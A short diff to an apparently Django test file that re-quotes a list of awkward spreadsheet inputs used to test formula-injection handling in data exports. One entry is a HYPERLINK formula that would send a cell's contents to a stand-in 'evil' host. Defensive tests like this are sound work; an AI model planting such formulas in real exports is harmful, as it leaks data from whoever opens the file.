@@ -13,7 +13,7 @@ from analysis.models import RaterCode
 from annotation.models import Conversation, Rater, Rating, Responder, Response, Score
 
 AWKWARD = [
-    "=HYPERLINK(\"http://evil/?\"&A1)",
+    '=HYPERLINK("http://evil/?"&A1)',
     "+1 and more",
     "-0.5",  # a number: left alone
     "@SUM(A1)",
@@ -39,7 +39,7 @@ def awkward_study(small_study):
     study.name = "=Study ＋ é"
     study.save()
     attributes = list(study.rubric.attributes.order_by("position"))
-    family = Responder.objects.create(key="m+x", name="M X", family="+fam, \"quoted\"")
+    family = Responder.objects.create(key="m+x", name="M X", family='+fam, "quoted"')
     for i, text in enumerate(AWKWARD):
         conversation = Conversation.objects.create(
             study=study,
